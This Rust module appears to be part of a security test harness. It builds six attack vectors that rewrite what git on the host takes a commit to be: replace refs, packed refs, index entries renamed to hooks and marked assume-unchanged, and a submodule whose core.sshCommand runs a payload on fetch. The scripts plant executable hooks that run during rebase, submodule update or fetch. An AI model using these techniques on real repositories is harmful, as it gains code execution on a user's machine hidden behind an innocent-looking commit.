//! Files that keep every name of a commit, and change what git on the host takes the commit to be.

use super::vector::{Payload, Scope, Setting, Trick, Vector, compose};

const PLAIN: Scope = Scope::PLAIN;

/// User's preparation: hooks in the work tree, and a rebase that waits before its last commit.
const REBASE: &str = r#"(
    cd w
    mkdir .githooks
    printf '#!/bin/sh\n' > .githooks/pre-commit
    chmod +x .githooks/pre-commit
    git config core.hooksPath .githooks
    seq 60 > notes
    git add .githooks notes; git commit -q -m hooks
    echo 1 > one; git add one; git commit -q -m one
    echo 61 >> notes; git commit -q -a -m two
    GIT_SEQUENCE_EDITOR='sed -i 1s/pick/edit/' git rebase -q -i HEAD~2 2> /dev/null
    test -d .git/rebase-merge
)"#;

/// Script that sets the author and makes `$scratch`, which must be unique because the control runs
/// several scripts concurrently in the same `/tmp`.
const SET_UP: &str = "
export GIT_AUTHOR_NAME=x GIT_AUTHOR_EMAIL=x GIT_COMMITTER_NAME=x GIT_COMMITTER_EMAIL=x
scratch=$(mktemp -d)
trap 'rm -rf \"$scratch\"' EXIT";

/// Script that makes `$other`, which is the commit `$picked` with additional hooks.
const OTHER_COMMIT: &str = "
hook=$(git hash-object -w \"$W/.evil/m\")
export GIT_INDEX_FILE=$scratch/index
git read-tree $picked
for name in post-commit post-checkout reference-transaction; do
    git update-index --add --cacheinfo 100755,$hook,.githooks/$name
done
other=$(git commit-tree -p $picked^ -m other $(git write-tree))
unset GIT_INDEX_FILE";

const PICKED: &str = "
picked=$(git rev-parse $(sed -n 's/^pick \\([0-9a-f]*\\).*/\\1/p' .git/rebase-merge/git-rebase-todo))";

/// Script that renames the file that the next commit changes to the name of a hook, in the index.
const RENAMED: &str = "
hook=$( (cat .evil/m; echo exit; cat notes) | git hash-object -w --stdin)
git rm -q notes
git update-index --add --cacheinfo 100755,$hook,.githooks/post-commit
git update-index --assume-unchanged .githooks/post-commit";

/// Script that makes a repository that only a commit names, and makes `git fetch` take that commit
/// as new.
const FETCHED: &str = r#"
for number in $(seq 100 145); do mkdir "0$number"; done
git init -q z/lib
git -C z/lib config core.sshCommand '@M@'
git -C z/lib config remote.origin.url ssh://nowhere/x
tip=$(git rev-parse refs/remotes/origin/main)
printf '[submodule "sub"]\n\tpath = z/lib\n\turl = x\n' > $scratch/modules
export GIT_INDEX_FILE=$scratch/index
git read-tree $tip
git update-index --add --cacheinfo 100644,$(git hash-object -w $scratch/modules),.gitmodules
git update-index --add --cacheinfo 160000,1234567812345678123456781234567812345678,z/lib
base=$(git commit-tree -m base "$tip^{tree}")
other=$(git commit-tree -p $base -m other $(git write-tree))
unset GIT_INDEX_FILE
git rm -q --cached sub
git update-ref refs/replace/$tip $other
git symbolic-ref HEAD refs/heads/other
git update-ref -d refs/heads/main
rm -rf .git/packed-refs .git/refs/remotes"#;

/// Returns all vectors of this module.
pub(super) fn vectors() -> Vec<Vector> {
    let rebase = Scope { prepare: REBASE, ..PLAIN };
    let replace = "\ngit update-ref refs/replace/$picked $other";
    let in_submodule = "\ncd sub; picked=$(git -C .. rev-parse :sub)";
    let submodule = Scope {
        template: "super-sub",
        prepare: "git -C w/sub config core.hooksPath .githooks; mkdir w/sub/.githooks",
        ..PLAIN
    };
    let fetching = Scope { template: "super-sub", prepare: "git -C w fetch -q", ..PLAIN };
    let proceed = "git rebase --continue";
    let cases = [
        ("replaced", rebase, ".git/refs/replace", [PICKED, OTHER_COMMIT, replace, ""], proceed),
        (
            "replaced-and-packed",
            rebase,
            ".git/packed-refs",
            [PICKED, OTHER_COMMIT, replace, "\ngit pack-refs --all"],
            proceed,
        ),
        (
            "other-head",
            rebase,
            ".git/rebase-merge",
            [RENAMED, "\ngit update-ref --no-deref HEAD $(git commit-tree -p HEAD -m x $(git write-tree))", "", ""],
            proceed,
        ),
        ("other-index", rebase, ".git/rebase-merge", [RENAMED, "", "", ""], proceed),
        (
            "replaced-in-submodule",
            submodule,
            ".git/modules/sub/refs/replace",
            [in_submodule, OTHER_COMMIT, replace, ""],
            "git submodule update",
        ),
        ("fetched", fetching, "z/lib/.git", [FETCHED, "", "", ""], "git fetch"),
    ];
    let mut vectors = Vec::new();
    for (name, scope, file, scripts, host) in cases {
        let scope = Scope { name: "meaning", file, ..scope };
        let setting = Setting { name, config: "", extra: "", host };
        let mut vector = compose(&scope, &setting, Payload::Whole(""), &Trick::scripted("plain", None, ""));
        vector.add_to_last_run(&format!("{SET_UP}{}\n", scripts.concat()));
        vectors.push(vector);
    }
    vectors
}
